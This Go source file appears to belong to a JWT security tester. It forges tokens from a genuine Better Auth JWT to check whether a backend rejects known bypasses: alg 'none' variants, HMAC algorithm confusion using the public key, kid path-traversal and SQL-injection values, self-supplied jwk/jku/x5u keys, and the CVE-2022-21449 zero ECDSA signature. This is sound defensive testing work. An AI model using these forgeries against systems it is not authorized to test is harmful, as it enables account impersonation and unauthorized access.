// Package probe attacks a protected API with tokens forged from a genuine
// Better Auth JWT, and says whether the backend refused every one of them.
// Each forgery is a known way verifiers have been fooled (RFC 8725 §2,
// jwt_tool's list): a backend that accepts one of them accepts tokens
// nobody signed. The package never prints: it returns a Report for the
// renderers.
package probe

import (
	"bytes"
	"crypto"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/hmac"
	"crypto/rsa"
	"crypto/sha256"
	_ "crypto/sha512" // crypto.SHA384 and crypto.SHA512 for the forged signatures
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"hash"
	"io"
	"maps"
	"slices"
	"strings"

	"github.com/baverify/baverify/internal/verify"
)

// Case names, in the order they run. They are part of the JSON output.
const (
	CaseGenuine                   = "genuine"
	CaseNoToken                   = "no_token"
	CaseMalformed                 = "malformed"
	CaseSignatureTampered         = "signature_tampered"
	CaseSignatureStripped         = "signature_stripped"
	CasePayloadTampered           = "payload_tampered"
	CaseAlgNone                   = "alg_none"
	CaseAlgNoneTitle              = "alg_none_title"
	CaseAlgNoneUpper              = "alg_none_upper"
	CaseAlgNoneMixed              = "alg_none_mixed"
	CaseHMACPublicKey             = "hmac_public_key"
	CaseHMACPublicKeyHS384        = "hmac_public_key_hs384"
	CaseHMACPublicKeyHS512        = "hmac_public_key_hs512"
	CaseHMACPublicKeyNoNewline    = "hmac_public_key_no_newline"
	CaseHMACPublicKeyNoNewline384 = "hmac_public_key_no_newline_hs384"
	CaseHMACPublicKeyNoNewline512 = "hmac_public_key_no_newline_hs512"
	CaseHMACJWK                   = "hmac_jwk_json"
	CaseHMACRawKey                = "hmac_raw_key"
	CaseKidPathTraversal          = "kid_path_traversal"
	CaseKidSQLInjection           = "kid_sql_injection"
	CaseEmbeddedJWK               = "embedded_jwk"
	CaseJKU                       = "jku_header"
	CaseX5U                       = "x5u_header"
	CaseIssDiscovery              = "iss_discovery"
	CasePsychicSignature          = "psychic_signature"
	CaseExpiredToken              = "expired_token"
	CaseOtherAudience             = "other_audience_token"
)

// ForgedSubject is the sub that payload_tampered claims to be.
const ForgedSubject = "baverify-probe-forged-subject"

// The kid injections: a path to an empty file, and SQL that selects a
// known string as the key.
const (
	KidPathTraversal = "../../../../../../../../dev/null"
	KidSQLInjection  = "x' UNION SELECT 'baverify-probe';--"
	KidSQLKey        = "baverify-probe"
)

// Case is one request of a probe.
type Case struct {
	Name string
	// Attack says what is sent and what a backend that accepts it gets
	// wrong.
	Attack string
	// Authorization is the header value sent; "" sends none.
	Authorization string
	// Token is the (forged) token in Authorization, for redaction; "" when
	// the header carries none.
	Token string
	// Genuine: the unmodified token, expected to be accepted. Every other
	// case must be refused.
	Genuine bool
	// NotTested says why the case is not sent; EnabledBy names the flag
	// that would let it be sent, when one would.
	NotTested string
	EnabledBy string
	// Source says where a deployment token came from ("--expired-token").
	Source string
	// NotApplicable says why the case does not apply to this token (the
	// psychic signature of a token that is not ECDSA); it is then left
	// out of the probes and listed in the coverage.
	NotApplicable string
}

// Inputs is what Forge builds the cases from.
type Inputs struct {
	// Token is the genuine compact JWS.
	Token string
	// Key is the public key the token verifies with, and JWK that key's
	// JSON as the JWKS served it; nil when no key source was known (the
	// HMAC confusion cases are then not tested).
	Key crypto.PublicKey
	JWK []byte
	// Attacker is the key of the attacker-hosted cases and of embedded_jwk;
	// nil makes one from Random.
	Attacker *Attacker
	// AttackerURL is where the backend reaches the attacker listener; ""
	// leaves jku_header, x5u_header and iss_discovery not tested, for the
	// reason AttackerSkip.
	AttackerURL  string
	AttackerSkip string
	// Deployment are tokens of the same deployment, each already checked
	// to be what its kind says; a kind missing leaves its case not tested.
	Deployment map[Kind]DeploymentToken
	Random     io.Reader
}

// Forge builds every case from a genuine token.
func Forge(in Inputs) ([]Case, error) {
	tok, err := verify.Decode(in.Token)
	if err != nil {
		return nil, err
	}
	alg, _, err := tok.Header.String("alg")
	if err != nil {
		return nil, err
	}
	f := &forger{tok: tok, alg: alg}
	f.headerSeg, f.payloadSeg, _ = strings.Cut(tok.SigningInput, ".")

	f.add(Case{Name: CaseGenuine, Genuine: true, Token: in.Token,
		Attack: "the genuine token, unchanged: the backend must accept it, or the other results mean nothing"})
	f.cases = append(f.cases,
		Case{Name: CaseNoToken,
			Attack: "no Authorization header: a protected route must refuse anonymous calls"},
		Case{Name: CaseMalformed, Authorization: "Bearer not-a-jwt",
			Attack: `"Bearer not-a-jwt": a token that does not even parse`})

	// One bit of the signature flipped: a backend that accepts it does not
	// check signatures at all.
	sig := bytes.Clone(tok.Signature)
	if len(sig) == 0 {
		sig = []byte{0}
	}
	sig[len(sig)/2] ^= 0x01
	f.add(Case{Name: CaseSignatureTampered, Token: tok.SigningInput + "." + enc(sig),
		Attack: "the genuine token with one bit of its signature flipped: accepting it means signatures are not checked"})
	f.add(Case{Name: CaseSignatureStripped, Token: tok.SigningInput + ".",
		Attack: "the genuine header and payload with the signature segment empty: accepting it means a missing signature passes"})

	// The payload says someone else, under the original signature.
	claims, err := setMembers(tok.Claims, map[string]any{"sub": ForgedSubject})
	if err != nil {
		return nil, err
	}
	f.add(Case{Name: CasePayloadTampered, Token: f.headerSeg + "." + enc(claims) + "." + enc(tok.Signature),
		Attack: fmt.Sprintf("sub changed to %q under the original signature: accepting it lets anyone be any user", ForgedSubject)})

	// alg "none" and no signature (RFC 8725 §2.1), in the letter cases that
	// slipped past blocklists which compared case-sensitively.
	for _, none := range []struct{ name, alg string }{
		{CaseAlgNone, "none"}, {CaseAlgNoneTitle, "None"}, {CaseAlgNoneUpper, "NONE"}, {CaseAlgNoneMixed, "nOnE"},
	} {
		h, err := setMembers(tok.Header, map[string]any{"alg": none.alg})
		if err != nil {
			return nil, err
		}
		f.add(Case{Name: none.name, Token: enc(h) + "." + f.payloadSeg + ".",
			Attack: fmt.Sprintf(`alg %q and an empty signature (RFC 8725 §2.1): accepting it means the header picks the algorithm`, none.alg)})
	}

	if err := f.hmacConfusion(in.Key, in.JWK); err != nil {
		return nil, err
	}
	if err := f.kidInjection(); err != nil {
		return nil, err
	}

	attacker, attackerErr := in.Attacker, error(nil)
	if attacker == nil {
		attacker, attackerErr = NewAttacker(in.Token, in.Random)
	}
	if err := f.attackerCases(attacker, attackerErr, in.AttackerURL, in.AttackerSkip); err != nil {
		return nil, err
	}
	f.psychic()

	for _, k := range kinds() {
		f.deploymentToken(k, in.Deployment[k.kind])
	}
	return f.cases, nil
}

// forger accumulates the cases of one genuine token.
type forger struct {
	tok                   *verify.Token
	alg                   string
	headerSeg, payloadSeg string
	cases                 []Case
}

var enc = base64.RawURLEncoding.EncodeToString

// add appends a case that sends its token as a bearer token.
func (f *forger) add(c Case) {
	if c.Token != "" && c.NotTested == "" {
		c.Authorization = "Bearer " + c.Token
	}
	f.cases = append(f.cases, c)
}

// signedHS is the genuine payload under a header with alg and the extra
// members set, MACed with key.
func (f *forger) signedHS(alg string, key []byte, set map[string]any) (string, error) {
	members := map[string]any{"alg": alg}
	maps.Copy(members, set)
	h, err := setMembers(f.tok.Header, members)
	if err != nil {
		return "", err
	}
	input := enc(h) + "." + f.payloadSeg
	mac := hmac.New(hmacHash(alg), key)
	mac.Write([]byte(input))
	return input + "." + enc(mac.Sum(nil)), nil
}

func hmacHash(alg string) func() hash.Hash {
	switch alg {
	case "HS384":
		return crypto.SHA384.New
	case "HS512":
		return crypto.SHA512.New
	}
	return sha256.New
}

// hmacConfusion: HS* keyed with every encoding of the public key that a
// verifier taking the algorithm from the header and "the key" as bytes
// might use as the secret (RFC 8725 §2.1).
func (f *forger) hmacConfusion(key crypto.PublicKey, jwk []byte) error {
	type variant struct {
		name, alg, what string
		secret          func() ([]byte, error)
	}
	pemKey := func() ([]byte, error) { return PublicPEM(key) }
	pemBare := func() ([]byte, error) {
		p, err := PublicPEM(key)
		return bytes.TrimSuffix(p, []byte("\n")), err
	}
	variants := []variant{
		{CaseHMACPublicKey, "HS256", "the JWKS public key (PEM)", pemKey},
		{CaseHMACPublicKeyHS384, "HS384", "the JWKS public key (PEM)", pemKey},
		{CaseHMACPublicKeyHS512, "HS512", "the JWKS public key (PEM)", pemKey},
		{CaseHMACPublicKeyNoNewline, "HS256", "the JWKS public key (PEM without its final newline)", pemBare},
		{CaseHMACPublicKeyNoNewline384, "HS384", "the JWKS public key (PEM without its final newline)", pemBare},
		{CaseHMACPublicKeyNoNewline512, "HS512", "the JWKS public key (PEM without its final newline)", pemBare},
		{CaseHMACJWK, "HS256", "the JWK JSON as the JWKS serves it", func() ([]byte, error) {
			if len(jwk) == 0 {
				return nil, fmt.Errorf("the JWK as served is not known")
			}
			return jwk, nil
		}},
		{CaseHMACRawKey, "HS256", "the raw public key bytes (Ed25519: 32 bytes; EC: 04||X||Y; RSA: PKCS#1 DER)",
			func() ([]byte, error) { return RawPublicKey(key) }},
	}
	for _, v := range variants {
		c := Case{Name: v.name, EnabledBy: "--base-url or --jwks",
			Attack: fmt.Sprintf("%s signed with %s as the HMAC secret: the algorithm-confusion attack (RFC 8725 §2.1)", v.alg, v.what)}
		if key == nil {
			c.NotTested = "the public key is not known: give --base-url or --jwks"
			f.add(c)
			continue
		}
		c.EnabledBy = ""
		secret, err := v.secret()
		if err != nil {
			c.NotTested = err.Error()
			f.add(c)
			continue
		}
		if c.Token, err = f.signedHS(v.alg, secret, nil); err != nil {
			return err
		}
		f.add(c)
	}
	return nil
}

// kidInjection: HS256 with a kid that makes a backend which looks the key
// up by kid read a key the attacker knows.
func (f *forger) kidInjection() error {
	path, err := f.signedHS("HS256", nil, map[string]any{"kid": KidPathTraversal})
	if err != nil {
		return err
	}
	f.add(Case{Name: CaseKidPathTraversal, Token: path,
		Attack: fmt.Sprintf("HS256 with kid %q and an empty key: accepting it means the key is read from a file the kid names", KidPathTraversal)})
	sql, err := f.signedHS("HS256", []byte(KidSQLKey), map[string]any{"kid": KidSQLInjection})
	if err != nil {
		return err
	}
	f.add(Case{Name: CaseKidSQLInjection, Token: sql,
		Attack: fmt.Sprintf("HS256 with kid %q and the key %q: accepting it means the kid reaches an SQL query", KidSQLInjection, KidSQLKey)})
	return nil
}

// attackerCases: tokens signed by a key baverify made, which the token
// says where to find: in its own header (embedded_jwk), at a URL in jku
// or x5u, or at its iss.
func (f *forger) attackerCases(a *Attacker, keyErr error, url, skip string) error {
	emb := Case{Name: CaseEmbeddedJWK,
		Attack: `signed with a fresh key that the header carries in "jwk" (CVE-2018-0114): accepting it means the token brings its own key`}
	hosted := []Case{
		{Name: CaseJKU, EnabledBy: "--attacker-url",
			Attack: `signed with a fresh key published at the attacker listener, which "jku" points at: accepting it means the token says where its key is`},
		{Name: CaseX5U, EnabledBy: "--attacker-url",
			Attack: `signed with a fresh key whose X.509 certificate is at the attacker listener, which "x5u" points at: accepting it means the token says where its key is`},
		{Name: CaseIssDiscovery, EnabledBy: "--attacker-url",
			Attack: `iss set to the attacker listener, which serves its own JWKS at <iss>/api/auth/jwks and <iss>/.well-known/jwks.json: accepting it means keys are discovered from any iss`},
	}
	if keyErr != nil {
		emb.NotTested = keyErr.Error()
		f.add(emb)
		for _, c := range hosted {
			c.NotTested, c.EnabledBy = keyErr.Error(), ""
			f.add(c)
		}
		return nil
	}
	var err error
	if emb.Token, err = a.sign(f.tok.Header, map[string]any{"jwk": a.PublicJWK()}, f.payloadSeg); err != nil {
		return err
	}
	f.add(emb)
	if url == "" {
		for _, c := range hosted {
			c.NotTested = skip
			f.add(c)
		}
		return nil
	}
	base := strings.TrimSuffix(url, "/")
	jku, x5u, iss := hosted[0], hosted[1], hosted[2]
	jku.EnabledBy, x5u.EnabledBy, iss.EnabledBy = "", "", ""
	if jku.Token, err = a.sign(f.tok.Header, map[string]any{"jku": base + PathJKU}, f.payloadSeg); err != nil {
		return err
	}
	if x5u.Token, err = a.sign(f.tok.Header, map[string]any{"x5u": base + PathX5U}, f.payloadSeg); err != nil {
		return err
	}
	claims, err := setMembers(f.tok.Claims, map[string]any{"iss": base})
	if err != nil {
		return err
	}
	if iss.Token, err = a.sign(f.tok.Header, nil, enc(claims)); err != nil {
		return err
	}
	f.add(jku)
	f.add(x5u)
	f.add(iss)
	return nil
}

// psychic: r = s = 0 at the right length (CVE-2022-21449): a verifier that
// skips ECDSA's range check accepts it for any message and key.
func (f *forger) psychic() {
	c := Case{Name: CasePsychicSignature,
		Attack: "the genuine header and payload with an ECDSA signature of r = s = 0 (CVE-2022-21449): accepting it means the ECDSA check skips its range check"}
	size := map[string]int{"ES256": 32, "ES384": 48, "ES512": 66}[f.alg]
	if size == 0 {
		c.NotApplicable = fmt.Sprintf("only ECDSA (ES256, ES384, ES512) tokens have it; this token is %s", f.alg)
		f.cases = append(f.cases, c)
		return
	}
	c.Token = f.tok.SigningInput + "." + enc(make([]byte, 2*size))
	f.add(c)
}

// deploymentToken adds a case whose token only the deployment can sign.
func (f *forger) deploymentToken(k kindSpec, d DeploymentToken) {
	c := Case{Name: k.name, Attack: k.attack, Token: d.Token, Source: d.Source}
	if c.Token == "" {
		c.NotTested, c.EnabledBy = "give "+k.flag+" ("+k.what+")", k.flag
	}
	f.add(c)
}

// setMembers re-encodes a JSON object with some members replaced or added,
// keeping the order and the bytes of the others.
func setMembers(obj verify.Object, set map[string]any) ([]byte, error) {
	var b bytes.Buffer
	b.WriteByte('{')
	n := 0
	write := func(name string, raw []byte) {
		if n > 0 {
			b.WriteByte(',')
		}
		n++
		k, _ := json.Marshal(name)
		b.Write(k)
		b.WriteByte(':')
		b.Write(raw)
	}
	done := map[string]bool{}
	for _, name := range obj.Keys {
		raw := []byte(obj.Members[name])
		if v, ok := set[name]; ok {
			enc, err := json.Marshal(v)
			if err != nil {
				return nil, err
			}
			raw, done[name] = enc, true
		}
		write(name, raw)
	}
	for _, name := range slices.Sorted(maps.Keys(set)) {
		if done[name] {
			continue
		}
		enc, err := json.Marshal(set[name])
		if err != nil {
			return nil, err
		}
		write(name, enc)
	}
	b.WriteByte('}')
	return b.Bytes(), nil
}

// PublicPEM is the PKIX ("PUBLIC KEY") PEM of a public key, with its final
// newline: the bytes a confused verifier uses as the HMAC secret.
func PublicPEM(key crypto.PublicKey) ([]byte, error) {
	der, err := x509.MarshalPKIXPublicKey(key)
	if err != nil {
		return nil, fmt.Errorf("the public key has no PEM form: %v", err)
	}
	return pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}), nil
}

// RawPublicKey is the key without any wrapping: Ed25519's 32 bytes, EC's
// uncompressed point 04||X||Y, RSA's PKCS#1 DER.
func RawPublicKey(key crypto.PublicKey) ([]byte, error) {
	switch k := key.(type) {
	case ed25519.PublicKey:
		return bytes.Clone(k), nil
	case *ecdsa.PublicKey:
		return k.Bytes()
	case *rsa.PublicKey:
		return x509.MarshalPKCS1PublicKey(k), nil
	}
	return nil, fmt.Errorf("no raw form for a %T key", key)
}
